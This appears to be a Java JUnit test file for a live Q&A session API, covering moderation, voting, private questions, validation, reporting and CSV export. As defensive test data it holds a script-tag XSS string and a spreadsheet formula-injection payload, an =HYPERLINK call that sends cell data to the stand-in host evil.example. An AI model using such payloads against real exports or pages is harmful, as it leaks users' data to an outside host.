package io.guichet.live;

import com.fasterxml.jackson.databind.JsonNode;
import io.guichet.testing.Api;
import io.guichet.testing.TestDatabases;
import io.guichet.testing.TestNode;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** Live sessions through the API: moderation, voting rules, private questions, and bad input. */
class LiveApiTest {
    static LiveFixtures live;
    static Api api;
    static String admin;
    static String agent;

    @BeforeAll
    static void start() {
        live = LiveFixtures.start();
        api = live.api;
        admin = live.admin;
        agent = live.agent;
        api.createService(admin, "sports", "Sports");
    }

    @AfterAll
    static void stop() {
        live.close();
    }

    @Test
    void preModeratedQuestionsWaitUntilApprovedThenReachTheWallAsText() {
        String slug = live.session("pre-moderee", "pre", true, Map.of());
        String visitor = api.visitor("Zoé");
        Api.Response asked = live.ask(visitor, slug, "<script>alert('é')</script> Quand est la date limite?");
        assertThat(asked.status()).isEqualTo(201);
        assertThat(asked.text("status")).isEqualTo("pending");
        assertThat(wall(slug, "top")).isEmpty();

        assertThat(live.staff(slug, asked.text("id"), "approve", Map.of()).status()).isEqualTo(200);
        List<JsonNode> wall = wall(slug, "top");
        assertThat(wall).hasSize(1);
        assertThat(wall.getFirst().path("body").asText()).isEqualTo("<script>alert('é')</script> Quand est la date limite?");
        assertThat(wall.getFirst().has("contactId")).as("who asked stays private").isFalse();
    }

    @Test
    void moderatorsEditKeepingTheOriginalAnswerHighlightAndDismiss() {
        String slug = live.session("moderation", "post", true, Map.of());
        String visitor = api.visitor("Léa");
        String id = live.published(visitor, slug, "c koi la date limite pour l'admission");

        JsonNode edited = live.staff(slug, id, "edit", Map.of("body", "Quelle est la date limite d’admission?")).json();
        assertThat(edited.path("body").asText()).isEqualTo("Quelle est la date limite d’admission?");
        assertThat(edited.path("originalBody").asText()).isEqualTo("c koi la date limite pour l'admission");

        JsonNode answered = live.staff(slug, id, "answer", Map.of("body", "Le 1er mars, à 23 h 59.")).json();
        assertThat(answered.path("answer").asText()).isEqualTo("Le 1er mars, à 23 h 59.");
        assertThat(live.staff(slug, id, "highlight", Map.of()).json().path("highlightedId").asText()).isEqualTo(id);
        assertThat(wall(slug, "top").getFirst().path("highlighted").asBoolean()).isTrue();

        assertThat(live.staff(slug, id, "dismiss", Map.of()).json().path("status").asText()).isEqualTo("dismissed");
        assertThat(wall(slug, "top")).isEmpty();
        assertThat(api.get("/api/v1/live/" + slug, null).json().path("highlightedId").isNull())
                .as("a dismissed question is no longer highlighted").isTrue();
        assertThat(live.staff(slug, id, "approve", Map.of()).status()).as("dismissed stays dismissed").isEqualTo(409);
    }

    @Test
    void mergingDuplicatesAddsTheirVotersOncePerPerson() {
        String slug = live.session("fusion", "post", true, Map.of());
        String kept = live.published(api.visitor("A"), slug, "Y a-t-il des résidences étudiantes?");
        String duplicate = live.published(api.visitor("B"), slug, "Est-ce qu’il y a une résidence?");
        String both = api.visitor("Vote les deux");
        live.vote(both, slug, kept);
        live.vote(both, slug, duplicate);
        live.vote(api.visitor("C"), slug, duplicate);
        live.vote(api.visitor("D"), slug, kept);

        JsonNode merged = live.staff(slug, duplicate, "merge", Map.of("into", kept)).json();
        assertThat(merged.path("id").asText()).isEqualTo(kept);
        assertThat(merged.path("votes").asInt()).as("2 on the kept + 1 new voter from the duplicate").isEqualTo(3);
        assertThat(wall(slug, "top")).extracting(q -> q.path("id").asText()).containsExactly(kept);
        assertThat(live.vote(both, slug, duplicate).status()).as("the duplicate left the wall").isEqualTo(404);
        assertThat(live.staff(slug, kept, "merge", Map.of("into", kept)).status()).isEqualTo(422);
    }

    @Test
    void onePersonOneVoteWithdrawableAndIdempotent() {
        String slug = live.session("votes", "post", true, Map.of());
        String id = live.published(api.visitor("Auteur"), slug, "Les cours commencent quand?");
        String zoe = api.visitor("Zoé");
        assertThat(live.vote(zoe, slug, id).json().path("votes").asInt()).isEqualTo(1);
        assertThat(live.vote(zoe, slug, id).json().path("votes").asInt()).as("again: still one").isEqualTo(1);
        assertThat(live.vote(api.visitor("Noé"), slug, id).json().path("votes").asInt()).isEqualTo(2);
        assertThat(api.get("/api/v1/live/" + slug + "/questions", zoe).json().path("questions").get(0).path("voted").asBoolean()).isTrue();
        assertThat(live.unvote(zoe, slug, id).json().path("votes").asInt()).isEqualTo(1);
        assertThat(live.unvote(zoe, slug, id).json().path("votes").asInt()).as("withdrawing twice: no change").isEqualTo(1);
        assertThat(live.vote(null, slug, id).status()).as("a visitor token is needed").isEqualTo(401);
    }

    @Test
    void votesOnUnknownDismissedPendingOrOtherSessionsQuestionsAre404() {
        String slug = live.session("votes-404", "pre", true, Map.of());
        String other = live.session("votes-autre", "post", true, Map.of());
        String visitor = api.visitor("Zoé");
        String pending = live.ask(visitor, slug, "En attente de modération").text("id");
        String dismissed = live.published(visitor, slug, "Sera rejetée");
        live.staff(slug, dismissed, "dismiss", Map.of());
        String elsewhere = live.published(visitor, other, "Question d’une autre soirée");

        assertThat(live.vote(visitor, slug, pending).status()).isEqualTo(404);
        assertThat(live.vote(visitor, slug, dismissed).status()).isEqualTo(404);
        assertThat(live.vote(visitor, slug, elsewhere).status()).isEqualTo(404);
        assertThat(live.vote(visitor, slug, "999999").status()).isEqualTo(404);
        assertThat(live.vote(visitor, slug, "abc").status()).isEqualTo(404);
        assertThat(live.vote(visitor, "inconnue", pending).status()).isEqualTo(404);
    }

    @Test
    void blocklistedAndProfaneWordsHoldAQuestionEvenUnderPostModeration() {
        String slug = live.session("bloque", "post", true, Map.of("blocklist", List.of("Cégep Rival")));
        String visitor = api.visitor("Zoé");
        assertThat(live.ask(visitor, slug, "Pourquoi pas le cégep rival?").text("status")).isEqualTo("pending");
        assertThat(live.ask(visitor, slug, "C’est quoi ce TABARNAK de formulaire?").text("status")).isEqualTo("pending");
        assertThat(live.ask(visitor, slug, "This is fucking confusing").text("status")).isEqualTo("pending");
        assertThat(live.ask(visitor, slug, "Le programme de Sciences de la nature?").text("status")).isEqualTo("published");
        assertThat(live.ask(visitor, slug, "Scunthorpe a-t-il un cégep?").text("status")).as("whole words only").isEqualTo("published");
        JsonNode held = api.get("/api/v1/live/" + slug + "/moderation", admin).json().path("questions").get(0);
        assertThat(held.path("heldReason").asText()).isEqualTo("blocklist");
    }

    @Test
    void privateQuestionsBecomeAnInboxConversationOfTheChosenServiceTaggedWithTheSession() {
        String slug = live.session("prive", "pre", true, Map.of());
        String visitor = api.visitor("Zoé");
        Api.Response asked = api.post("/api/v1/live/" + slug + "/questions", visitor, Map.of("body",
                "Mon père a perdu son emploi : ai-je droit aux prêts et bourses?", "visibility", "private",
                "service", "aide-financiere", "clientId", "p-1"));
        assertThat(asked.status()).isEqualTo(201);
        assertThat(asked.text("status")).as("accepted at once, even under pre-moderation").isEqualTo("published");
        assertThat(asked.json().path("question").path("visibility").asText()).isEqualTo("private");
        String conversationId = asked.text("conversationId");
        assertThat(conversationId).isNotEmpty();

        JsonNode conversation = api.get("/api/v1/conversations/" + conversationId, agent).json();
        assertThat(conversation.path("service").asText()).isEqualTo("aide-financiere");
        assertThat(conversation.path("liveSession").asText()).isEqualTo(slug);
        assertThat(conversation.path("preview").asText()).startsWith("Mon père a perdu son emploi");
        assertThat(wall(slug, "top")).as("never on the wall").isEmpty();
        assertThat(api.get("/api/v1/live/" + slug + "/moderation", admin).json().path("questions").get(0).path("visibility").asText())
                .isEqualTo("private");

        Api.Response again = api.post("/api/v1/live/" + slug + "/questions", visitor, Map.of("body",
                "Mon père a perdu son emploi : ai-je droit aux prêts et bourses?", "visibility", "private",
                "service", "aide-financiere", "clientId", "p-1"));
        assertThat(again.status()).as("a retry returns the first result").isEqualTo(200);
        assertThat(again.text("conversationId")).isEqualTo(conversationId);

        api.post("/api/v1/conversations/" + conversationId + "/messages", agent, Map.of("body", "Oui : faites une demande de révision.", "clientId", "r1"));
        JsonNode mine = api.get("/api/v1/live/" + slug + "/mine", visitor).json().path("questions").get(0);
        assertThat(mine.path("conversationId").asText()).isEqualTo(conversationId);
        JsonNode messages = api.get("/api/v1/visitor/conversations/" + conversationId + "/messages", visitor).json().path("messages");
        assertThat(messages.get(1).path("body").asText()).isEqualTo("Oui : faites une demande de révision.");
    }

    @Test
    void privateQuestionsNeedAParticipatingService() {
        String slug = live.session("prive-service", "pre", true, Map.of());
        String visitor = api.visitor("Zoé");
        Map<String, Object> noService = Map.of("body", "Question privée", "visibility", "private", "clientId", "a");
        assertThat(api.post("/api/v1/live/" + slug + "/questions", visitor, noService).status()).isEqualTo(422);
        Api.Response outside = api.post("/api/v1/live/" + slug + "/questions", visitor,
                Map.of("body", "Question privée", "visibility", "private", "service", "sports", "clientId", "b"));
        assertThat(outside.status()).isEqualTo(422);
        assertThat(outside.json().path("error").path("code").asText()).isEqualTo("unknown_service");
    }

    @Test
    void badQuestionsAreRefusedWithAClearError() {
        String slug = live.session("mauvais", "post", true, Map.of("anonymous", false));
        String visitor = api.post("/api/v1/visitor/sessions", null, Map.of("lang", "fr")).text("visitorToken");
        String path = "/api/v1/live/" + slug + "/questions";
        assertThat(error(api.post(path, visitor, Map.of("body", "ab", "clientId", "1", "name", "Zoé")))).contains("shorter than 3");
        assertThat(error(api.post(path, visitor, Map.of("body", "   ", "clientId", "1", "name", "Zoé")))).contains("empty");
        assertThat(error(api.post(path, visitor, Map.of("body", "é".repeat(501), "clientId", "1", "name", "Zoé")))).contains("longer than 500");
        assertThat(api.post(path, visitor, Map.of("body", "é".repeat(500), "clientId", "500", "name", "Zoé")).status()).isEqualTo(201);
        assertThat(error(api.post(path, visitor, Map.of("body", 42, "clientId", "1", "name", "Zoé")))).contains("must be a string");
        assertThat(error(api.post(path, visitor, Map.of("body", "Une question", "clientId", "1", "visibility", "secret", "name", "Zoé"))))
                .contains("visibility");
        String nameless = api.post("/api/v1/visitor/sessions", null, Map.of("lang", "fr")).text("visitorToken");
        assertThat(error(api.post(path, nameless, Map.of("body", "Une question", "clientId", "1")))).as("no anonymous questions here")
                .contains("anonymous");
        assertThat(api.post(path, visitor, Map.of("body", "Une question", "clientId", "2")).status())
                .as("the name given before is remembered").isEqualTo(201);
        assertThat(api.postRaw(path, visitor, "{pas du json").status()).isEqualTo(400);
        assertThat(api.post(path, null, Map.of("body", "Une question", "clientId", "1")).status()).isEqualTo(401);
        assertThat(api.post("/api/v1/live/inconnue/questions", visitor, Map.of("body", "Une question", "clientId", "1")).status()).isEqualTo(404);
    }

    @Test
    void beforeTheStartOnlyAdvanceQuestionsAfterTheEndNothing() {
        String slug = live.session("a-venir", "post", false, Map.of());
        String visitor = api.visitor("Zoé");
        Api.Response advance = live.ask(visitor, slug, "Question envoyée à l’avance");
        assertThat(advance.status()).isEqualTo(201);
        assertThat(advance.json().path("question").path("advance").asBoolean()).isTrue();
        assertThat(live.vote(visitor, slug, advance.text("id")).json().path("error").path("code").asText()).isEqualTo("not_started");
        assertThat(api.get("/api/v1/live/" + slug, null).text("phase")).isEqualTo("upcoming");

        assertThat(api.post("/api/v1/live/" + slug + "/start", admin, Map.of()).text("phase")).isEqualTo("live");
        assertThat(live.vote(visitor, slug, advance.text("id")).status()).isEqualTo(200);
        assertThat(api.post("/api/v1/live/" + slug + "/end", admin, Map.of()).text("phase")).isEqualTo("ended");

        Api.Response late = live.ask(visitor, slug, "Trop tard?");
        assertThat(late.status()).isEqualTo(409);
        assertThat(late.json().path("error").path("code").asText()).isEqualTo("ended");
        assertThat(live.vote(visitor, slug, advance.text("id")).status()).isEqualTo(409);
        assertThat(api.post("/api/v1/live/" + slug + "/start", admin, Map.of()).status()).as("an ended session never reopens").isEqualTo(409);
        assertThat(wall(slug, "top")).as("after the end only answered questions stay").isEmpty();
        live.staff(slug, advance.text("id"), "answer", Map.of("body", "Réponse après la soirée"));
        assertThat(wall(slug, "new")).hasSize(1);
    }

    @Test
    void onlySupervisorsRunSessionsAndSessionsAreValidated() {
        Map<String, Object> body = Map.of("slug", "x", "titleFr", "X", "titleEn", "X", "startsAt", "2026-03-01T19:00:00-05:00",
                "endsAt", "2026-03-01T21:00:00-05:00", "moderation", "pre", "services", List.of());
        assertThat(api.post("/api/v1/live", agent, body).status()).isEqualTo(403);
        assertThat(api.post("/api/v1/live", null, body).status()).isEqualTo(401);
        String slug = live.session("regles", "pre", true, Map.of());
        String id = live.ask(api.visitor("Zoé"), slug, "Une question").text("id");
        assertThat(live.staff(slug, id, "approve", Map.of()).status()).isEqualTo(200);
        assertThat(api.post("/api/v1/live/" + slug + "/questions/" + id + "/dismiss", agent, Map.of()).status()).isEqualTo(403);
        assertThat(api.get("/live/" + slug + "/edit", agent).status()).as("the settings, blocklist included, are the moderators'").isEqualTo(403);
        assertThat(api.get("/live/" + slug + "/edit", admin).status()).isEqualTo(200);

        Map<String, Object> backwards = new java.util.HashMap<>(body);
        backwards.put("slug", "a-l-envers");
        backwards.put("endsAt", "2026-03-01T18:00:00-05:00");
        assertThat(error(api.post("/api/v1/live", admin, backwards))).contains("endsAt must be after startsAt");
        backwards.put("endsAt", "demain soir");
        assertThat(error(api.post("/api/v1/live", admin, backwards))).contains("offset");
        Map<String, Object> taken = new java.util.HashMap<>(body);
        taken.put("slug", slug);
        assertThat(api.post("/api/v1/live", admin, taken).json().path("error").path("code").asText()).isEqualTo("slug_taken");
        Map<String, Object> badModeration = new java.util.HashMap<>(body);
        badModeration.put("moderation", "parfois");
        assertThat(api.post("/api/v1/live", admin, badModeration).status()).isEqualTo(422);
    }

    @Test
    void reportAndCsvCountEveryQuestionWithAccentsIntact() {
        String slug = live.session("rapport", "post", true, Map.of());
        String visitor = api.visitor("Zoé");
        String answered = live.published(visitor, slug, "Où se trouve la cafétéria?");
        live.staff(slug, answered, "answer", Map.of("body", "Au pavillon François-Xavier, près de l’entrée."));
        String open = live.published(visitor, slug, "Y a-t-il un service de garde?");
        live.vote(api.visitor("V"), slug, open);
        String conversation = api.post("/api/v1/live/" + slug + "/questions", visitor, Map.of("body", "Question privée : ma bourse?",
                "visibility", "private", "service", "aide-financiere", "clientId", "p")).text("conversationId");
        api.post("/api/v1/conversations/" + conversation + "/messages", agent, Map.of("body", "Écrivez-nous à l’aide financière.", "clientId", "r"));

        JsonNode report = api.get("/api/v1/live/" + slug + "/report", admin).json();
        assertThat(report.path("questions").asInt()).isEqualTo(3);
        assertThat(report.path("answered").asInt()).isEqualTo(2);
        assertThat(report.path("answeredPercent").asInt()).isEqualTo(67);
        assertThat(report.path("topUnanswered").get(0).path("body").asText()).isEqualTo("Y a-t-il un service de garde?");
        assertThat(report.path("perHour").get(0).path("questions").asInt()).isEqualTo(3);

        Api.Response csv = api.get("/api/v1/live/" + slug + "/questions.csv", admin);
        assertThat(csv.raw().headers().firstValue("Content-Type").orElse("")).startsWith("text/csv");
        byte[] bytes = csv.raw().body().getBytes(StandardCharsets.UTF_8);
        assertThat(csv.raw().body()).startsWith("\uFEFFid,asked_at,visibility");
        assertThat(bytes[0]).isEqualTo((byte) 0xEF);
        assertThat(csv.raw().body()).contains("Où se trouve la cafétéria?", "Au pavillon François-Xavier, près de l’entrée.",
                "Écrivez-nous à l’aide financière.", LiveFixtures.AGENT_NAME);
        assertThat(api.get("/api/v1/live/" + slug + "/questions.csv", agent).status()).isEqualTo(403);
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAsFormulasAreNeutralised() {
        String slug = live.session("formules", "post", true, Map.of());
        String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")";
        String asked = live.published(api.visitor("Zoé"), slug, formula);
        live.staff(slug, asked, "answer", Map.of("body", "@Zoé : non, merci."));
        live.published(api.visitor("Noé"), slug, "-2+3 est-ce juste?");
        String body = api.get("/api/v1/live/" + slug + "/questions.csv", admin).raw().body();
        assertThat(body).contains("'=HYPERLINK(", "'-2+3 est-ce juste?", "'@Zoé : non, merci.");
        assertThat(body).doesNotContain(",\"=HYPERLINK", ",=HYPERLINK", ",-2+3", ",@Zoé");
    }

    @Test
    void askingFasterThanTheLimitIs429WithRetryAfter() {
        var db = TestDatabases.fresh();
        try (LiveFixtures fixtures = LiveFixtures.on(TestNode.start(db, Map.of("GUICHET_RATE_LIMITS", "on", "GUICHET_RATE_LIVE_QUESTIONS", "2")))) {
            Api limitedApi = fixtures.api;
            String slug = fixtures.session("limitee", "post", true, Map.of());
            String visitor = limitedApi.visitor("Pressé");
            assertThat(fixtures.ask(visitor, slug, "Première question").status()).isEqualTo(201);
            assertThat(fixtures.ask(visitor, slug, "Deuxième question").status()).isEqualTo(201);
            Api.Response third = fixtures.ask(visitor, slug, "Troisième question");
            assertThat(third.status()).isEqualTo(429);
            assertThat(third.json().path("error").path("code").asText()).isEqualTo("rate_limited");
            assertThat(third.raw().headers().firstValue("Retry-After")).isPresent();
            assertThat(fixtures.ask(limitedApi.visitor("Quelqu’un d’autre"), slug, "Une autre personne").status())
                    .as("the limit is per visitor").isEqualTo(201);
        }
    }

    private static List<JsonNode> wall(String slug, String sort) {
        List<JsonNode> list = new ArrayList<>();
        api.get("/api/v1/live/" + slug + "/questions?sort=" + sort, null).json().path("questions").forEach(list::add);
        return list;
    }

    private static String error(Api.Response r) {
        assertThat(r.status()).isBetween(400, 499);
        return r.json().path("error").path("message").asText();
    }
}
